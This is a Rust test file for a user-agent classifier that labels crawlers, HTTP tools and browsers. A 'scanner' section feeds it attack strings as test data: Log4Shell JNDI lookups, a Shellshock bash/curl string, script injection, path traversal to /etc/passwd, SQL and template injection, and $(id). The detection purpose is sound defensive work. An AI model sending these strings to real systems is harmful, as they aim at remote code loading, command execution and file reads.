//! Table-driven tests of the whole classifier over the shipped catalog: one line per case.

use std::sync::OnceLock;

use super::*;

fn classifier() -> &'static Classifier {
    static CLASSIFIER: OnceLock<Classifier> = OnceLock::new();
    CLASSIFIER.get_or_init(|| {
        Classifier::build(Catalog::builtin()).expect("the shipped catalog compiles")
    })
}

/// `name: user agent => class, agent name (or "-"), category (or "-"), token chain;`
macro_rules! classify {
    ($($name:ident: $ua:expr => $class:ident, $agent:expr, $category:expr, [$($token:expr),*];)*) => {$(
        #[test]
        fn $name() {
            let got = classifier().classify($ua);
            let agent = got.agent.map_or("-", |a| a.name.as_str());
            let category = got.category().map_or("-", Category::as_str);
            let tokens: Vec<&str> = got.tokens().iter().map(String::as_str).collect();
            let want_tokens: Vec<&str> = vec![$($token),*];
            assert_eq!(
                (got.class, agent, category, tokens),
                (Class::$class, $agent, $category, want_tokens),
                "{:?} ({:?})", $ua, got.reason
            );
        }
    )*};
}

classify! {
    // Google
    googlebot_desktop: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/120.0.0.0 Safari/537.36" => Robot, "Googlebot", "search", ["googlebot"];
    googlebot_smartphone: "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.71 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)" => Robot, "Googlebot", "search", ["googlebot"];
    googlebot_plain: "Googlebot/2.1 (+http://www.google.com/bot.html)" => Robot, "Googlebot", "search", ["googlebot"];
    googlebot_image: "Googlebot-Image/1.0" => Robot, "Googlebot-Image", "search", ["googlebot-image", "googlebot"];
    googlebot_video: "Googlebot-Video/1.0" => Robot, "Googlebot-Video", "search", ["googlebot-video", "googlebot"];
    googlebot_news: "Googlebot-News" => Robot, "Googlebot-News", "search", ["googlebot-news", "googlebot"];
    storebot: "Mozilla/5.0 (X11; Linux x86_64; Storebot-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.88 Safari/537.36" => Robot, "Storebot-Google", "search", ["storebot-google"];
    adsbot: "AdsBot-Google (+http://www.google.com/adsbot.html)" => Robot, "AdsBot-Google", "other", ["adsbot-google"];
    adsbot_mobile: "Mozilla/5.0 (iPhone; CPU iPhone OS 14_7_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.1.2 Mobile/15E148 Safari/604.1 (compatible; AdsBot-Google-Mobile; +http://www.google.com/mobile/adsbot.html)" => Robot, "AdsBot-Google-Mobile", "other", ["adsbot-google-mobile", "adsbot-google"];
    apis_google: "APIs-Google (+https://developers.google.com/webmasters/APIs-Google.html)" => Robot, "APIs-Google", "other", ["apis-google"];
    inspection_tool: "Mozilla/5.0 (compatible; Google-InspectionTool/1.0)" => Robot, "Google-InspectionTool", "search", ["google-inspectiontool", "googlebot"];
    google_extended_never_in_ua: "Mozilla/5.0 (compatible; Google-Extended/1.0)" => Robot, "-", "-", [];
    // Other search engines
    bingbot: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36" => Robot, "bingbot", "search", ["bingbot", "msnbot"];
    yandexbot: "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)" => Robot, "YandexBot", "search", ["yandexbot", "yandex"];
    applebot: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)" => Robot, "Applebot", "search", ["applebot"];
    duckduckbot: "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)" => Robot, "DuckDuckBot", "search", ["duckduckbot"];
    baiduspider: "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)" => Robot, "Baiduspider", "search", ["baiduspider"];
    // Family members that a family entry used to hide (their own token, then the family's)
    yandex_images: "Mozilla/5.0 (compatible; YandexImages/3.0; +http://yandex.com/bots)" => Robot, "YandexImages", "search", ["yandeximages", "yandex"];
    yandex_mobilebot: "Mozilla/5.0 (iPhone; CPU iPhone OS 15_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.4 Mobile/15E148 Safari/604.1 (compatible; YandexMobileBot/3.0; +http://yandex.com/bots)" => Robot, "YandexMobileBot", "search", ["yandexmobilebot", "yandex"];
    baiduspider_render: "Mozilla/5.0 (compatible; Baiduspider-render/2.0; +http://www.baidu.com/search/spider.html)" => Robot, "Baiduspider-render", "search", ["baiduspider-render", "baiduspider"];
    ahrefs_site_audit: "Mozilla/5.0 (compatible; AhrefsSiteAudit/6.1; +http://ahrefs.com/robot/site-audit)" => Robot, "AhrefsSiteAudit", "seo", ["ahrefssiteaudit", "ahrefsbot"];
    semrushbot_sa: "Mozilla/5.0 (compatible; SemrushBot-SA/0.97; +http://www.semrush.com/bot.html)" => Robot, "SemrushBot-SA", "seo", ["semrushbot-sa", "semrushbot"];
    seekportbot: "Mozilla/5.0 (compatible; SeekportBot; +https://bot.seekport.com)" => Robot, "Seekport", "search", ["seekportbot", "seekport"];
    alexabot_is_not_exabot: "Mozilla/5.0 (compatible; Alexabot/1.0; +http://alexa.com)" => Robot, "Alexabot", "ai-training", ["alexabot"];
    // AI
    gptbot: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1; +https://openai.com/gptbot)" => Robot, "GPTBot", "ai-training", ["gptbot"];
    oai_searchbot: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot" => Robot, "OAI-SearchBot", "ai-search", ["oai-searchbot"];
    chatgpt_user: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot" => Robot, "ChatGPT-User", "ai-assistant", ["chatgpt-user"];
    claudebot: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)" => Robot, "ClaudeBot", "ai-training", ["claudebot"];
    claude_user: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-User/1.0; +Claude-User@anthropic.com)" => Robot, "Claude-User", "ai-assistant", ["claude-user"];
    perplexitybot: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)" => Robot, "PerplexityBot", "ai-search", ["perplexitybot"];
    perplexity_user: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)" => Robot, "Perplexity-User", "ai-assistant", ["perplexity-user"];
    ccbot: "CCBot/2.0 (https://commoncrawl.org/faq/)" => Robot, "CCBot", "ai-training", ["ccbot"];
    bytespider: "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)" => Robot, "Bytespider", "ai-training", ["bytespider"];
    amazonbot: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36" => Robot, "Amazonbot", "ai-training", ["amazonbot"];
    meta_externalagent: "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)" => Robot, "meta-externalagent", "ai-training", ["meta-externalagent"];
    facebookexternalhit: "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)" => Robot, "facebookexternalhit", "social-preview", ["facebookexternalhit"];
    archive_org_bot: "Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)" => Robot, "archive.org_bot", "archiver", ["archive", "ia_archiver"];
    whatsapp_preview: "WhatsApp/2.23.20.0 A" => Robot, "WhatsApp", "social-preview", ["whatsapp"];
    // Tools
    curl: "curl/8.4.0" => Robot, "curl", "http-library", ["curl"];
    wget: "Wget/1.21.4" => Robot, "Wget", "http-library", ["wget"];
    python_requests: "python-requests/2.31.0" => Robot, "python-requests", "http-library", ["python-requests"];
    python_urllib: "Python-urllib/3.11" => Robot, "Python-urllib", "http-library", ["python-urllib"];
    go_http_client: "Go-http-client/2.0" => Robot, "Go-http-client", "http-library", ["go-http-client"];
    okhttp: "okhttp/4.12.0" => Robot, "okhttp", "http-library", ["okhttp"];
    axios: "axios/1.6.2" => Robot, "axios", "http-library", ["axios"];
    node_fetch: "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)" => Robot, "node-fetch", "http-library", ["node-fetch"];
    libwww_perl: "libwww-perl/6.72" => Robot, "libwww-perl", "http-library", ["libwww-perl"];
    java: "Java/17.0.9" => Robot, "Java", "http-library", ["java"];
    apache_httpclient: "Apache-HttpClient/4.5.14 (Java/17.0.9)" => Robot, "Apache-HttpClient", "http-library", ["apache-httpclient"];
    // A scraping framework is a tool, whatever its users crawl for (ai.robots.txt lists it for AI training).
    scrapy_is_a_tool: "Scrapy/2.11.2 (+https://scrapy.org)" => Robot, "Scrapy", "http-library", ["scrapy"];
    library_loses_to_named_robot: "W3C-checklink/4.5 [4.160] libwww-perl/5.823" => Robot, "W3C-checklink", "monitoring", ["w"];
    headless_chrome: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.0.0 Safari/537.36" => Robot, "HeadlessChrome", "other", ["headlesschrome"];
    // Robots the catalog does not know: structure decides.
    unknown_bot_product: "FancyNewBot/0.3" => Robot, "-", "-", [];
    unknown_compatible_crawler: "Mozilla/5.0 (compatible; Fetchy/1.0; +https://fetchy.example/bot)" => Robot, "-", "-", [];
    unknown_http_library: "reqwest-okhttp-bridge/0.1" => Robot, "-", "-", [];
    unknown_compatible_product: "Mozilla/5.0 (compatible; Fetchy/1.0)" => Robot, "-", "-", [];
    empty: "" => Robot, "-", "-", [];
    blank: "   " => Robot, "-", "-", [];
    // Browsers, including the traps.
    chrome_windows: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36" => Browser, "-", "-", [];
    firefox_linux: "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0" => Browser, "-", "-", [];
    safari_iphone: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1" => Browser, "-", "-", [];
    cubot_phone: "Mozilla/5.0 (Linux; Android 9; CUBOT X19 Build/O11019) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.136 Mobile Safari/537.36" => Browser, "-", "-", [];
    cubot_build_id: "Mozilla/5.0 (Linux; U; Android 4.2.2; de-de; CUBOT S108 Build/CUBOT) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30 [FB_IAB/FB4A;FBAV/55.0.0.18.66;]" => Browser, "-", "-", [];
    xbot_phone: "Mozilla/5.0 (Linux; Android 10; XBot Senior Build/QP1A.190711.020) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.101 Mobile Safari/537.36" => Browser, "-", "-", [];
    banca_caboto: "Mozilla/5.0 (iPhone; CPU iPhone OS 15_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Banca Caboto/2.3.1" => Browser, "-", "-", [];
    facebook_in_app: "Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook" => Browser, "-", "-", [];
    facebook_ios_botswana: "Mozilla/5.0 (iPhone; CPU iPhone OS 11_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15G77 [FBAN/FBIOS;FBAV/194.0.0.38.99;FBCR/OrangeBotswana;FBID/phone]" => Browser, "-", "-", [];
    instagram_android_15_build: "Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36 Instagram 406.0.0.58.159 Android" => Browser, "-", "-", [];
    vs_code: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.115.0 Chrome/142.0.7444.265 Electron/39.8.5 Safari/537.36" => Browser, "-", "-", [];
    trae_ide: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Trae/1.107.1 Chrome/142.0.7444.235 Electron/39.2.7 Safari/537.36" => Browser, "-", "-", [];
    fluid: "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_5_6; en-us) AppleWebKit/528.16 (KHTML, like Gecko) Fluid/0.9.6 Safari/528.16" => Browser, "-", "-", [];
    htc_butterfly: "Mozilla/5.0 (Linux; Android 4.2.2; HTC Butterfly s Build/JDQ39) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/30.0 Mobile Safari/537.36" => Browser, "-", "-", [];
    whatsapp_desktop: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) WhatsApp/2.2330.7 Chrome/114.0.5735.289 Electron/25.8.4 Safari/537.36" => Browser, "-", "-", [];
    old_ie_slcc2: "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727)" => Browser, "-", "-", [];
    ecosia_at_version: "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Mobile Safari/537.36 (Ecosia android@119)" => Browser, "-", "-", [];
    nokia_feature_phone: "Nokia6300/2.0 (05.00) Profile/MIDP-2.0 Configuration/CLDC-1.1" => Browser, "-", "-", [];
    // Apps without a browser engine are neither.
    ios_app: "Spotify/8.9.10 iOS/17.4 (iPhone15,2)" => Unknown, "-", "-", [];
    // Device model names are never catalog tokens (issue 18): Acer's Nitro, Speedy, Expanse
    acer_nitro_phone: "Mozilla/5.0 (Linux; Android 10; Nitro 5 Build/QP1A.190711.020) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36" => Browser, "-", "-", [];
    speedy_phone: "Mozilla/5.0 (Linux; U; Android 4.0.4; en-us; Speedy Build/IMM76D) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30" => Browser, "-", "-", [];
    expanse_reduced_ua: "Mozilla/5.0 (Linux; Android 13; Expanse) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36" => Browser, "-", "-", [];
    nitro_robot_still_named: "Mozilla/5.0 (compatible; Nitro/1.0)" => Robot, "Nitro", "seo", ["nitro"];
    // Structural rules (issue 18): shapes no browser, app or device sends
    shape_lone_product: "fetchkit/0.3" => Robot, "-", "http-library", [];
    shape_injection: "${jndi:ldap://203.0.113.9/a}" => Robot, "-", "scanner", [];
    shape_free_text: "anonymous" => Robot, "-", "other", [];
    shape_mozilla_no_engine: "Mozilla/4.0 (compatible; Fetchkit Library)" => Robot, "-", "http-library", [];
    shape_service_product: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.7204.168 Safari/537.36 AcmeSynthetics" => Robot, "-", "monitoring", [];
    shape_service_product_with_version: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 AcmeSiteChecker/3.0" => Robot, "-", "monitoring", [];
    shape_keeps_app_after_engine: "Mozilla/5.0 (Linux; Android 11; SM-A515F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Mobile Safari/537.36 Banca Caboto" => Browser, "-", "-", [];
    shape_keeps_webview_app_named_like_a_tool: "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.123 Mobile Safari/537.36 CamScanner/4.8.5" => Browser, "-", "-", [];
    shape_keeps_text_browser_on_libwww: "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5" => Browser, "-", "-", [];
    shape_keeps_android_app: "Bible 4.3.7 (samsung GT-P5200 santos103gxx;Android 4.2.2;de_DE;gzip)" => Unknown, "-", "-", [];
    shape_keeps_feature_phone: "Nokia3510i" => Unknown, "-", "-", [];
    shape_keeps_webview: "Mozilla/5.0 (Linux; Android 9; SM-G950F Build/PPR1.180610.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/79.0.3945.79 Mobile Safari/537.36 Viber/12.0.0.4" => Browser, "-", "-", [];
    shape_keeps_electron_app: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.29.149 Chrome/108.0.5359.179 Electron/22.0.0 Safari/537.36" => Browser, "-", "-", [];
    shape_keeps_in_app_browser: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/440.0.0.32.106;FBBV/550000000;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.0;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]" => Browser, "-", "-", [];
    // Borderlines of issue 18's second round: people's devices and apps on the browser or
    // unknown side, whatever words their names hold; tools on the robot side.
    feature_phone_up_browser: "SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/6.2.3.3.c.1.101 (GUI) MMP/2.0" => Browser, "-", "-", [];
    opera_mini_j2me: "Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15" => Browser, "-", "-", [];
    symbian_s60: "Mozilla/5.0 (SymbianOS/9.2; U; Series60/3.1 NokiaN95/12.0.013; Profile/MIDP-2.0 Configuration/CLDC-1.1 ) AppleWebKit/413 (KHTML, like Gecko) Safari/413" => Browser, "-", "-", [];
    windows_phone: "Mozilla/5.0 (compatible; MSIE 9.0; Windows Phone OS 7.5; Trident/5.0; IEMobile/9.0; NOKIA; Lumia 800)" => Browser, "-", "-", [];
    kindle_e_reader: "Mozilla/5.0 (Linux; U; en-US) AppleWebKit/528.5+ (KHTML, like Gecko, Safari/528.5+) Version/4.0 Kindle/3.0 (screen 600x800; rotate)" => Browser, "-", "-", [];
    playstation_portable: "Mozilla/4.0 (PSP (PlayStation Portable); 2.00)" => Browser, "-", "-", [];
    xbox_edge: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0.2564.82 Safari/537.36 Edge/14.14393" => Browser, "-", "-", [];
    lg_netcast_tv: "Mozilla/5.0 (DirectFB; Linux armv7l) AppleWebKit/534.26+ (KHTML, like Gecko) Version/5.0 Safari/534.26+ LG Browser/5.00.00(+mouse+3D+SCREEN+TUNER; LGE; 42LM6700-SB; 04.03.20; 0x00000001;); LG NetCast.TV-2012 0" => Browser, "-", "-", [];
    tesla_car_browser: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/66.0 Safari/537.36 Tesla/2020.16.2.1-e99c70fff409" => Browser, "-", "-", [];
    roku_player: "Roku4640X/DVP-7.70 (297.70E04154A)" => Unknown, "-", "-", [];
    hbbtv_set_top: "HbbTV/1.2.1 (+DRM; Samsung; SmartTV2017; T-KTSUDEUC-1106.2; ;) Tizen/3.0" => Unknown, "-", "-", [];
    imode_phone: "portalmmm/2.0 N410i(c20;TB)" => Unknown, "-", "-", [];
    teams_electron: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Teams/1.3.00.4461 Chrome/69.0.3497.128 Electron/4.2.12 Safari/537.36" => Browser, "-", "-", [];
    steam_client: "Mozilla/5.0 (Windows; U; Windows NT 10.0; en-US; Valve Steam Client/default/1596241250; ) AppleWebKit/535.15 (KHTML, like Gecko) Chrome/18.0.989.0 Safari/535.11" => Browser, "-", "-", [];
    outlook_ios: "Outlook-iOS/709.2189947.prod.iphone (3.24.0)" => Unknown, "-", "-", [];
    outlook_desktop: "Microsoft Outlook 14.0.7113" => Unknown, "-", "-", [];
    office_link_fetch: "Mozilla/4.0 (compatible; ms-office; MSOffice 16)" => Unknown, "-", "-", [];
    thunderbird_lone: "Thunderbird/78.0" => Unknown, "-", "-", [];
    spotify_mac: "Spotify/111500448 OSX/0 (MacBookPro15,1)" => Unknown, "-", "-", [];
    windows_media_player: "Windows-Media-Player/12.0.7601.17514" => Unknown, "-", "-", [];
    windows_media_nsplayer: "NSPlayer/12.00.19041.1 WMFSDK/12.00.19041.1" => Unknown, "-", "-", [];
    vlc_player: "VLC/3.0.8 LibVLC/3.0.8" => Unknown, "-", "-", [];
    mpv_player: "mpv 0.32.0" => Unknown, "-", "-", [];
    itunes: "iTunes/12.10.5 (Macintosh; OS X 10.15.2) AppleWebKit/608.5.11" => Browser, "-", "-", [];
    apple_core_media: "AppleCoreMedia/1.0.0.12B466 (iPhone; U; CPU OS 8_1 like Mac OS X; en_us)" => Unknown, "-", "-", [];
    android_stagefright: "stagefright/1.2 (Linux;Android 5.0)" => Unknown, "-", "-", [];
    kodi_media_center: "Kodi/19.1 (X11; Linux x86_64) App_Bitness/64 Version/19.1-Git:20210509-85e05228b4" => Unknown, "-", "-", [];
    podcast_app: "Pocket Casts" => Unknown, "-", "-", [];
    realplayer: "RMA/1.0 (compatible; RealMedia)" => Unknown, "-", "-", [];
    phone_sync_client_names_http: "Nokia SyncML HTTP Client" => Unknown, "-", "-", [];
    phone_model_with_at_sign: "PHILIPS-Az@lis288 UP/4.1.19l" => Unknown, "-", "-", [];
    mosaic_on_libwww: "NEC MosaicView/1.0 libwww/2.15_Spyglass" => Browser, "-", "-", [];
    // ... and what stays a robot: media frameworks, download managers, a device word inside a
    // robot's `compatible` comment.
    ffmpeg_framework: "Lavf/58.29.100" => Robot, "-", "http-library", [];
    gstreamer_framework: "GStreamer souphttpsrc libsoup/2.52.2" => Robot, "-", "-", [];
    download_manager: "Free Download Manager" => Robot, "-", "other", [];
    download_tool: "aria2/1.35.0" => Robot, "-", "http-library", [];
    // A product named after a platform names none (stop 19's cold try): `RestSharp` holds the
    // maker Sharp, `FooNokia` Nokia; a maker's own model glued after its name still counts.
    restsharp: "RestSharp/110.2.0.0" => Robot, "-", "http-library", [];
    restsharp_lowercase: "restsharp/1.0" => Robot, "-", "http-library", [];
    maker_name_inside_a_product: "FooNokia/1.0" => Robot, "-", "http-library", [];
    maker_then_model: "NokiaN73-1" => Unknown, "-", "-", [];
    operator_in_capitals: "Mozilla/5.0 (NTTDoCoMo SH900i) Scope/3.0 Venus/0326.1" => Unknown, "-", "-", [];
    // Injection payloads anywhere, browser strings and catalog names beside them included.
    jndi_after_chrome: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 ${jndi:ldap://x/a}" => Robot, "-", "scanner", [];
    jndi_before_mozilla: "${jndi:ldap://x/a} Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0" => Robot, "-", "scanner", [];
    jndi_in_platform_comment: "Mozilla/5.0 (Windows NT 10.0; ${jndi:dns://x}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36" => Robot, "-", "scanner", [];
    script_after_safari: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1 <script>alert(1)</script>" => Robot, "-", "scanner", [];
    traversal_after_chrome: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 ../../etc/passwd" => Robot, "-", "scanner", [];
    shellshock_naming_curl: "() { :;}; /bin/bash -c \"curl x\"" => Robot, "-", "scanner", [];
    template_injection: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 {{7*7}}" => Robot, "-", "scanner", [];
    command_substitution: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 $(id)" => Robot, "-", "scanner", [];
    encoded_jndi: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 %24%7Bjndi:ldap://x/a%7D" => Robot, "-", "scanner", [];
    windows_traversal: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 ..\\..\\windows\\win.ini" => Robot, "-", "scanner", [];
    double_quote_sql: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 \" or 1=1--" => Robot, "-", "scanner", [];
    googlebot_with_a_payload: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html) ${jndi:ldap://x/a}" => Robot, "-", "scanner", [];
    // ... and what browsers and apps send that only looks like one.
    app_name_with_apostrophe: "Domino's/5.0 CFNetwork/1410.0.3 Darwin/22.6.0" => Unknown, "-", "-", [];
    percent_encoded_app_name: "Pok%C3%A9mon%20GO/1 CFNetwork/1410.0.3 Darwin/22.6.0" => Unknown, "-", "-", [];
    hbbtv_profile_list: "HbbTV/1.1.1 (;Kathrein;UFS-925;;) CE-HTML/1.0 (<profilelist><ui_profile name=x>)" => Unknown, "-", "-", [];
    // An Electron app named like a company's link fetcher is the app; the fetcher is a robot,
    // and so is a robot that runs in Electron and adds its name after the engine.
    notion_desktop: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Notion/3.16.0 Chrome/124.0.6367.243 Electron/30.5.1 Safari/537.36" => Browser, "-", "-", [];
    notion_link_fetcher: "Notion/1.0 (https://notion.so; team@makenotion.com)" => Robot, "Notion", "social-preview", ["notion"];
    pingdom_in_electron_full: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) renderer/2020.2.0 Chrome/78.0.3904.130 Electron/7.1.7 Safari/537.36 PingdomTMS/2020.2" => Robot, "PingdomPageSpeed", "monitoring", ["pingdompagespeed"];
    robot_in_the_app_place: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) GPTBot/1.0 Chrome/124.0.6367.243 Electron/30.5.1 Safari/537.36" => Robot, "GPTBot", "ai-training", ["gptbot"];
    library_in_the_app_place: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) python-requests/2.31 Chrome/124.0.6367.243 Electron/30.5.1 Safari/537.36" => Robot, "python-requests", "http-library", ["python-requests"];
    robot_after_an_app_named_like_a_fetcher: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Notion/3.16.0 Chrome/124.0.6367.243 Electron/30.5.1 Safari/537.36 GPTBot/1.0" => Robot, "GPTBot", "ai-training", ["gptbot"];
    asana_desktop: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Asana/2.3.0 Chrome/124.0.6367.243 Electron/30.5.1 Safari/537.36" => Browser, "-", "-", [];
    catalog_name_elsewhere_in_electron: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.243 Electron/30.5.1 Safari/537.36 Notion/1.0" => Robot, "Notion", "social-preview", ["notion"];
}

#[test]
fn reasons() {
    let c = classifier();
    let cases = [
        ("", Reason::Empty),
        ("curl/8.0", Reason::HttpTool),
        ("Googlebot/2.1", Reason::Catalog),
        ("FancyNewBot/0.3", Reason::Marker),
        (
            "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
            Reason::Browser,
        ),
        ("Spotify/8.9.10 iOS/17.4", Reason::Nothing),
    ];
    for (ua, want) in cases {
        assert_eq!(c.classify(ua).reason, want, "{ua:?}");
    }
}

#[test]
fn agent_lookup_is_case_insensitive_and_knows_token_only_agents() {
    let c = classifier();
    let extended = c
        .agent("google-EXTENDED")
        .expect("Google-Extended is in the catalog");
    assert!(extended.is_token_only());
    assert_eq!(extended.tokens, ["google-extended"]);
    assert!(c.agent("AdsBot-Google").is_some_and(|a| a.ignores_star));
    assert!(c.agent("APIs-Google").is_some_and(|a| a.ignores_star));
    assert!(c
        .agent("AdsBot-Google-Mobile")
        .is_some_and(|a| a.ignores_star));
    assert!(c.agent("Googlebot").is_some_and(|a| !a.ignores_star));
    assert!(c.agent("no such agent").is_none());
}

#[test]
fn category_names_round_trip() {
    for category in Category::ALL {
